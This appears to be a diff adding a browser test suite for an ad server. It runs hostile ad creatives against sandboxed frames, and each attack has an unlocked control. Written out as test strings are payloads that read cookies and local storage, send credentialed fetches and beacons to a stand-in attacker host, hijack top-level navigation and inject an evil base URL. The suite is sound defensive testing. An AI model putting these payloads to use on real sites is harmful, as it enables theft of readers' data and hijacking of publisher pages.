@@ -1,0 +1,265 @@
+"""Hostile creatives in a real browser: none reaches the page that it stands in, its host, or what
+the page keeps in its reader's browser. Each attack has its control: the same document, unlocked."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+from contextlib import suppress
+
+import pytest
+from playwright.sync_api import Browser, Error
+
+from adserver.serving.documents import DENIED
+from tests.browser import as_readers_have_it
+from tests.journeys.hostile import (
+    BEFORE,
+    OWNED,
+    POPUP,
+    Attack,
+    Publisher,
+    Seen,
+    another_host,
+    asked,
+    looking,
+    told,
+)
+from tests.servers import until
+from tests.stand_in import TAG, Answer, Server
+
+FORM = f"'<form action={OWNED}-form method=post target=_top></form>'"
+
+
+def element(tag: str, **attributes: str) -> str:
+    """Puts it into the document; over when it has loaded, or has failed to."""
+    return (
+        "{ const one = document.createElement('" + tag + "');"
+        " const over = new Promise((done) => { one.onload = one.onerror = done; });"
+        f" Object.assign(one, {attributes}); document.body.append(one);"
+        " setTimeout(() => one.dispatchEvent(new Event('error')), 1000); return over; }"
+    )
+
+
+ATTACKS = [
+    Attack("page", "parent.document.title = 'owned'", lambda seen: seen.page.title() == "owned"),
+    Attack("top", f"{{ top.location = '{OWNED}-top'; }}", asked(f"{OWNED}-top"), leaves=True),
+    Attack("open_top", f"{{ open('{OWNED}-open', '_top'); }}", asked(f"{OWNED}-open"), leaves=True),
+    Attack(
+        "form",
+        f"{{ document.body.innerHTML = {FORM}; document.forms[0].submit(); }}",
+        asked(f"{OWNED}-form"),
+        leaves=True,
+    ),
+    Attack(
+        "download",
+        "{ const a = document.createElement('a'); a.href = '/file'; a.download = 'owned';"
+        " document.body.append(a); a.click(); }",
+        lambda seen: bool(seen.downloads),
+    ),
+    Attack("dialog", "alert('owned')", lambda seen: "owned" in seen.dialogs),
+    Attack("cookie", "decodeURIComponent(document.cookie)", told("cookie")),
+    Attack(
+        "cookie_set", "{ document.cookie = 'owned=1'; }", lambda seen: "owned" in seen.cookies()
+    ),
+    Attack("local_storage", "localStorage.getItem('secret')", told("local_storage")),
+    Attack("session_storage", "sessionStorage.getItem('secret')", told("session_storage")),
+    Attack("databases", "(await indexedDB.databases())[0].name", told("databases")),
+    Attack("caches", "(await caches.keys()).join()", told("caches")),
+    Attack(
+        "service_worker",
+        "(await navigator.serviceWorker.register('/worker.js')).scope",
+        told("service_worker", "http"),
+    ),
+    Attack("worker", "{ new Worker('/worker.js'); return 'begun'; }", told("worker", "begun")),
+    Attack("neighbour", "parent.frames.private.document.body.innerText", told("neighbour", "the")),
+    Attack("fetch", f"fetch('{OWNED}-fetch', {{credentials: 'include'}})", asked(f"{OWNED}-fetch")),
+    Attack("image", element("img", src=f"{OWNED}-image"), asked(f"{OWNED}-image")),
+    Attack("frame", element("iframe", src=f"{OWNED}-frame"), asked(f"{OWNED}-frame")),
+    Attack("script", element("script", src=f"{OWNED}-script"), asked(f"{OWNED}-script")),
+    Attack("style", element("link", rel="stylesheet", href="/owned-style"), asked("/owned-style")),
+    Attack("object", element("object", data=f"{OWNED}-object"), asked(f"{OWNED}-object")),
+    Attack("beacon", f"navigator.sendBeacon('{OWNED}-beacon')", asked(f"{OWNED}-beacon")),
+    Attack("base", "document.baseURI", told("base", "evil"), "<base href='http://evil.example/'>"),
+    Attack("fullscreen", "document.fullscreenEnabled", told("fullscreen", "true")),
+    Attack("code", "eval('\"owned\"')", told("code", "owned")),
+    Attack(
+        "features",
+        f"document.featurePolicy.allowedFeatures().filter((one) => {list(DENIED)}.includes(one))",
+        told("features", "camera"),
+    ),
+    Attack("back", "{ history.back(); }", lambda seen: seen.page.url.endswith(BEFORE), leaves=True),
+]
+
+
+# As another site would have them. EVIL stands for its address.
+OPENS = f"open('{OWNED}-popup') ? 'opened' : 'refused'"
+TURNS = "{ location = 'EVIL/turned'; }"
+LINK = "<!doctype html><a href='EVIL/popup' target=_blank rel=opener>x</a>"
+LOADS = """(await Promise.all(['EVIL/declared', 'OTHER/undeclared'].map(
+  (src) => new Promise((done) => {
+    Object.assign(new Image(), {src, onload: done, onerror: done}); })))).length"""
+NEVER = told("none", "none")
+
+
+@pytest.fixture(scope="module")
+def evil() -> Iterator[Server]:
+    evil = Server()
+    evil.pages["/popup"] = Answer(POPUP.encode())
+    with evil.running():
+        yield evil
+
+
+@pytest.fixture(scope="module")
+def publisher(tmp_path_factory: pytest.TempPathFactory, evil: Server) -> Iterator[Publisher]:
+    def of(text: str) -> str:
+        return text.replace("EVIL", evil.origin).replace("OTHER", another_host(evil))
+
+    more = [
+        Attack("popup", OPENS, asked(f"{OWNED}-popup")),
+        Attack("turns", of(TURNS), NEVER),
+        Attack("link", "", NEVER, body=of(LINK)),
+        Attack("own_link", "", NEVER, body=LINK.replace("EVIL", "")),
+        Attack("loads", of(LOADS), NEVER, loads_from=(evil.origin,)),
+    ]
+    publisher = Publisher(tmp_path_factory.mktemp("hostile"), ATTACKS + more)
+    with publisher.running():
+        yield publisher
+
+
+def names(attacks: Iterable[Attack]) -> str:
+    return ",".join(attack.name for attack in attacks)
+
+
+ALL = names(ATTACKS)
+
+
+@pytest.mark.parametrize("host", ["same", "another"])
+def test_no_creative_gets_out_of_its_frame(
+    publisher: Publisher, browser: Browser, evil: Server, host: str
+) -> None:
+    publisher.calls.clear()
+    page = f"/locked/{ALL}"
+    evil.pages[page] = Answer(publisher.locked(ALL).encode())
+    evil.pages[BEFORE] = Answer(b"<!doctype html>")
+    origin = publisher.origin if host == "same" else another_host(evil)
+    with looking(browser, publisher.calls) as seen:
+        seen.page.goto(f"{origin}{BEFORE}")
+        seen.page.goto(f"{origin}{page}")
+        until(lambda: len(seen.told) == len(ATTACKS))
+        assert seen.page.evaluate(f"fetch('{BEFORE}').then(({{status}}) => status)") == 200
+        assert [attack.name for attack in ATTACKS if attack.broke(seen)] == []
+        assert seen.page.url == f"{origin}{page}"
+
+
+@pytest.mark.parametrize(
+    "unlocked",
+    [[one for one in ATTACKS if not one.leaves], *([one] for one in ATTACKS if one.leaves)],
+    ids=lambda attacks: attacks[0].name if len(attacks) == 1 else "those that stay",
+)
+def test_control_unlocked_they_get_out(
+    publisher: Publisher, browser: Browser, unlocked: list[Attack]
+) -> None:
+    publisher.calls.clear()
+    inside = {attack.name: attack for attack in unlocked}
+
+    def all_out(seen: Seen) -> bool:
+        with suppress(Error):  # the page is on its way to somewhere else
+            seen.page.evaluate("0")  # lets the browser's messages in
+            for name in [name for name, attack in inside.items() if attack.broke(seen)]:
+                del inside[name]
+        return not inside
+
+    with looking(browser, publisher.calls) as seen:
+        seen.page.goto(f"{publisher.origin}{BEFORE}")
+        seen.page.goto(f"{publisher.origin}/unlocked/{names(unlocked)}", wait_until="commit")
+        until(lambda: all_out(seen))
+
+
+def test_a_document_opened_by_itself_is_of_no_origin(
+    publisher: Publisher, browser: Browser
+) -> None:
+    [attack] = publisher.named("local_storage")
+    look = "() => { try { return [origin, localStorage.length]; } catch { return [origin]; } }"
+    said: list[str] = []
+    with looking(browser, publisher.calls) as seen:
+        seen.page.on("console", lambda message: said.append(message.text))
+        seen.page.goto(publisher.address(attack))
+        assert seen.page.evaluate(look) == ["null"]
+        # The browser knows each word of its head.
+        assert said == []
+        seen.page.goto(f"{publisher.origin}/plain/{attack.name}")
+        assert seen.page.evaluate(look) == [publisher.origin, 0], "control: without its head"
+
+
+def test_no_window_opens_without_a_click(publisher: Publisher, browser: Browser) -> None:
+    with as_readers_have_it(browser) as strict, looking(strict, publisher.calls) as seen:
+        publisher.calls.clear()
+        seen.page.goto(f"{publisher.origin}/locked/popup")
+        until(lambda: seen.was_told("popup") == "refused")
+        assert f"{OWNED}-popup" not in publisher.calls
+
+
+def test_control_without_the_browsers_blocker_a_window_opens(
+    publisher: Publisher, browser: Browser
+) -> None:
+    with looking(browser, publisher.calls) as seen:
+        seen.page.goto(f"{publisher.origin}/locked/popup")
+        until(lambda: seen.was_told("popup") == "opened")
+
+
+@pytest.mark.parametrize(
+    ("page", "owned"), [("locked/link", False), ("unlocked/own_link", True)], ids=["", "control"]
+)
+def test_a_window_that_was_clicked_open_cannot_move_the_page(
+    publisher: Publisher, browser: Browser, page: str, owned: bool
+) -> None:
+    publisher.calls.clear()
+    with looking(browser, publisher.calls) as seen:
+        seen.page.goto(f"{publisher.origin}/{page}")
+        with seen.page.expect_popup() as opened:
+            seen.page.frame_locator("[data-src]").locator("a").click()
+        opened.value.wait_for_function("document.title === 'tried'")
+        if owned:
+            seen.page.wait_for_url(f"**{OWNED}-by-popup")
+        else:
+            assert seen.page.evaluate("fetch('/fence').then(() => document.title)") == "Blog"
+            assert f"{OWNED}-by-popup" not in publisher.calls
+
+
+def test_a_page_that_says_whom_it_frames_keeps_a_frame_from_turning_elsewhere(
+    publisher: Publisher, browser: Browser, evil: Server
+) -> None:
+    with looking(browser, publisher.calls) as seen:
+        refused = "addEventListener('securitypolicyviolation', () => { window.refused = true; })"
+        seen.page.add_init_script(refused)
+        evil.calls.clear()
+        seen.page.goto(f"{publisher.origin}/strict/turns")
+        seen.page.wait_for_function("window.refused")
+        assert evil.called("/turned") == []
+        seen.page.goto(f"{publisher.origin}/locked/turns")
+        until(lambda: evil.called("/turned")), "control: a page that does not say it"
+
+
+@pytest.mark.parametrize(
+    ("page", "loaded"),
+    [
+        ("locked", []),
+        ("agreed", ["/declared"]),
+        ("unlocked", ["/declared", "/undeclared"]),
+    ],
+)
+def test_a_document_loads_what_is_declared_for_those_who_have_agreed(
+    publisher: Publisher, browser: Browser, evil: Server, page: str, loaded: list[str]
+) -> None:
+    evil.calls.clear()
+    with looking(browser, publisher.calls) as seen:
+        seen.page.goto(f"{publisher.origin}/{page}/loads")
+        until(lambda: seen.was_told("loads") == "2")
+        assert sorted(call.path for call in evil.calls) == loaded
+
+
+def test_the_tag_listens_to_nobodys_messages() -> None:
+    source = TAG.read_text("utf-8")
+    assert "addEventListener" in source
+    assert "message" not in set(re.findall(r"addEventListener\('(\w+)'", source))
+    assert "onmessage" not in source
